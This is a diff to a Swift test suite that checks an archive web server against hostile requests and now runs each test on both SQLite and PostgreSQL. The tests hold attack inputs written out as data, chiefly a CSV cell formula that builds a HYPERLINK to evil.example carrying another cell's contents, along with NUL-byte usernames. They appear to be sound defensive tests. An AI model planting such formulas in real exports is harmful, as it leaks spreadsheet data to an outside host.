@@ -5,6 +5,7 @@ import HummingbirdTesting
 import JuanzongAccess
 import JuanzongCore
 import JuanzongExport
+import JuanzongPostgresTesting
 import JuanzongStore
 @testable import JuanzongWeb
 import Testing
@@ -12,11 +13,9 @@ import Testing
 /// What a curious user or an attacker tries with curl against a live server: each test was
 /// written to fail on the server before these holes were closed.
 @Suite struct HostileRequestTests {
-    let fixture = WebFixture.shared
-
     /// Waits until the audit log (written in the background) holds an entry matching `condition`;
     /// returns its actor and target.
-    func auditEntry(_ condition: String, _ values: [any SQLBindable]) async throws -> (actor: String, target: String)? {
+    func auditEntry(in fixture: WebFixture, _ condition: String, _ values: [any SQLBindable]) async throws -> (actor: String, target: String)? {
         for _ in 0..<100 {
             let row = try fixture.archive.openForReading().prepare("SELECT actor, target FROM audit_log WHERE \(condition) ORDER BY id DESC LIMIT 1")
                 .first(values) { (actor: $0.string(0), target: $0.string(1)) }
@@ -26,16 +25,19 @@ import Testing
         return nil
     }
 
-    @Test func textWithNULRoundTripsAndKeepsTheAuditChainIntact() async throws {
-        // Every field of an entry, straight through the store.
-        let scratch = FileManager.default.temporaryDirectory.appendingPathComponent("juanzong-nul-\(UUID().uuidString)").path
-        let (database, _) = try ArchiveLocation(path: scratch).openForWriting()
+    @Test(arguments: ArchiveStoreKind.available) func textWithNULRoundTripsAndKeepsTheAuditChainIntact(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
+        // Every field of an entry, straight through the store. PostgreSQL's text holds no NUL:
+        // the audit log shows it as ␀, and a statement refuses it rather than cut the text short.
+        let nul = store == .sqlite ? "\u{0}" : "\u{2400}"
+        let scratch = FileManager.default.temporaryDirectory.appendingPathComponent("juanzong-nul-\(UUID().uuidString)")
+        let (database, _) = try store.newArchive(in: scratch).openForWriting()
         let log = AuditLog(database: database)
         try log.append([.init(actor: "a\u{0}b", action: "act\u{0}", target: "\u{0}t", detail: "{\"q\":\"x\u{0}y\"}")])
         let stored = try #require(try log.search().rows.first)
-        #expect(stored.actor == "a\u{0}b" && stored.action == "act\u{0}" && stored.target == "\u{0}t" && stored.detail == "{\"q\":\"x\u{0}y\"}")
+        #expect(stored.actor == "a\(nul)b" && stored.action == "act\(nul)" && stored.target == "\(nul)t" && stored.detail == "{\"q\":\"x\(nul)y\"}")
         #expect(try log.verify().intact)
-        #expect(try database.prepare("SELECT ?1").first(["前\u{0}后"]) { $0.string(0) } == "前\u{0}后")
+        #expect(try database.prepare("SELECT CAST(?1 AS TEXT)").first(["前\u{0}后"]) { $0.string(0) } == "前\(nul)后")
 
         // From outside, with no account: the JSON and form sign-ins and a URL with %00.
         try await fixture.application().test(.live) { client in
@@ -50,13 +52,15 @@ import Testing
             #expect(precedent.status == .badRequest)
             #expect(precedent.errorCode == "control_character")
         }
-        let jsonAttempt = try #require(try await auditEntry("actor = ?1", ["web:x\u{0}y"]))
-        #expect(jsonAttempt.target == "user:x\u{0}y")
-        #expect(try await auditEntry("actor = ?1", ["web:evil\u{0}x"]) != nil)
+        let jsonAttempt = try #require(try await auditEntry(in: fixture, "actor = ?1", ["web:x\(nul)y"]))
+        #expect(jsonAttempt.target == "user:x\(nul)y")
+        #expect(try await auditEntry(in: fixture, "actor = ?1", ["web:evil\(nul)x"]) != nil)
         #expect(try AuditLog(database: fixture.archive.openForReading()).verify().intact)
     }
 
-    @Test func rolesThatSeeMaskedNumbersGetNoOriginalAndOnlyMaskedExports() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func rolesThatSeeMaskedNumbersGetNoOriginalAndOnlyMaskedExports(store: ArchiveStoreKind) async throws
+    {
+        let fixture = WebFixture.on(store)
         let identityNumber = "441226199203152812"
         let database = try fixture.archive.openForReading()
         let documentID = try #require(
@@ -103,13 +107,16 @@ import Testing
         return String(decoding: data, as: UTF8.self)
     }
 
-    @Test func repeatedWrongPasswordsAreThrottledWithRetryAfter() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func repeatedWrongPasswordsAreThrottledWithRetryAfter(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
         // A server of its own on a copy of the archive, so that the other tests' sign-ins from
         // 127.0.0.1 are not delayed and their audit entries do not wait for this server's writes.
         // The first delay is long enough that a slow machine cannot outlast it during the test.
-        let copy = ArchiveLocation(path: fixture.root.appendingPathComponent("throttle-\(UUID().uuidString)").path)
-        try FileManager.default.createDirectory(at: copy.root, withIntermediateDirectories: true)
-        try fixture.archive.openForReading().execute("VACUUM INTO '\(copy.databasePath)'")
+        let copy = try store.newArchive(in: fixture.root.appendingPathComponent("throttle-\(UUID().uuidString)"))
+        let accounts = AccountStore(database: try copy.openForWriting().0, hasher: PasswordHasher(costExponent: 12))
+        for (name, role, agency) in WebFixture.users {
+            try accounts.add(username: name, displayName: name, role: role, agency: agency, password: WebFixture.password, allowNewAgency: true)
+        }
         var policy = SignInThrottle.Policy()
         policy.firstDelay = 120
         let services = try ArchiveServices(location: copy, readers: 1, signInPolicy: policy)
@@ -144,7 +151,8 @@ import Testing
         #expect(throttled > 0)
     }
 
-    @Test func errorsAreChineseWithoutInternalsAndKeepTheNavigation() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func errorsAreChineseWithoutInternalsAndKeepTheNavigation(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
         try await fixture.application().test(.live) { client in
             let signIn = try await client.execute(
                 uri: "/api/v1/session", method: .post, headers: [.contentType: "application/json"],
@@ -162,18 +170,19 @@ import Testing
             #expect(json.status == .badRequest)
             #expect(json.errorCode == "control_character")
         }
-        // A failure inside (here an SQLite error) reaches the user as a reference id only.
-        let failure = try #require(throws: DatabaseError.self) {
-            try fixture.archive.openForReading().execute("SELECT rowid FROM document_search WHERE document_search MATCH '\"'")
+        // A failure inside (here the database's error) reaches the user as a reference id only.
+        let failure = try #require(throws: (any Error).self) {
+            try fixture.archive.openForReading().execute("SELECT no_such_column FROM documents")
         }
-        #expect(failure.description.contains("SELECT"))
+        #expect(String(describing: failure).contains("SELECT"))
         let shown = WebError.from(failure)
         #expect(shown.status == .internalServerError)
         #expect(!shown.message.contains("SELECT") && !shown.message.contains("SQLite"))
         #expect(shown.message.range(of: "参考编号 [0-9a-f]{8}", options: .regularExpression) != nil)
     }
 
-    @Test func csvCellsCannotBecomeFormulas() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func csvCellsCannotBecomeFormulas(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
         let csv = CSV.document([["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")", "+1+1", "-2", "@SUM(A1)", "\tx", "正常"]])
         #expect(csv.hasPrefix("\u{FEFF}") && !csv.dropFirst().hasPrefix("\u{FEFF}"))
         #expect(CSV.field("=HYPERLINK(\"http://evil.example/?x=\"&A1,\"点击\")").hasPrefix("\"'=HYPERLINK"))
@@ -193,7 +202,10 @@ import Testing
         }
     }
 
-    @Test func anotherAgencysCaseLooksLikeAnUnknownOneAndTheProbeIsAudited() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func anotherAgencysCaseLooksLikeAnUnknownOneAndTheProbeIsAudited(
+        store: ArchiveStoreKind
+    ) async throws {
+        let fixture = WebFixture.on(store)
         let otherCase = try fixture.caseID(agency: WebFixture.marketAgency, equal: false)
         let otherNumber = try #require(
             try fixture.archive.openForReading().prepare("SELECT case_number FROM cases WHERE id = ?1").first([otherCase]) { $0.string(0) })
@@ -209,10 +221,12 @@ import Testing
                     == unknownMessage.replacingOccurrences(of: otherNumber + "9", with: "N"))
             #expect(!foreignMessage.contains("#"))
         }
-        #expect(try await auditEntry("actor = 'web:market' AND action = 'access_denied' AND target = ?1", ["case:" + otherNumber]) != nil)
+        #expect(
+            try await auditEntry(in: fixture, "actor = 'web:market' AND action = 'access_denied' AND target = ?1", ["case:" + otherNumber]) != nil)
     }
 
-    @Test func signInCannotBeForcedFromAnotherSiteNorRedirectElsewhere() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func signInCannotBeForcedFromAnotherSiteNorRedirectElsewhere(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
         try await fixture.application().test(.live) { client in
             let body = ByteBuffer(string: #"{"username":"supervisor","password":"\#(WebFixture.password)"}"#)
             let plain = try await client.execute(uri: "/api/v1/session", method: .post, headers: [.contentType: "text/plain"], body: body)
@@ -239,7 +253,8 @@ import Testing
         }
     }
 
-    @Test func controlCharactersNeverReachATagFileAndAgenciesMustExist() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func controlCharactersNeverReachATagFileAndAgenciesMustExist(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
         let output = fixture.root.appendingPathComponent("tag-\(UUID().uuidString).zip")
         #expect(throws: ExportError.self) {
             try BagWriter(format: .zip, bagName: "tag", modified: Date()).write(
@@ -267,7 +282,8 @@ import Testing
         }
     }
 
-    @Test func sourcePathsAreRelativeExceptForAdministrators() async throws {
+    @Test(arguments: ArchiveStoreKind.available) func sourcePathsAreRelativeExceptForAdministrators(store: ArchiveStoreKind) async throws {
+        let fixture = WebFixture.on(store)
         try await fixture.application().test(.live) { client in
             let supervisor = try await APIClient.signIn(client, as: "supervisor")
             let hits = try #require(try await supervisor.get("/api/v1/search?q=" + encoded("罚款")).json()["hits"] as? [[String: Any]])
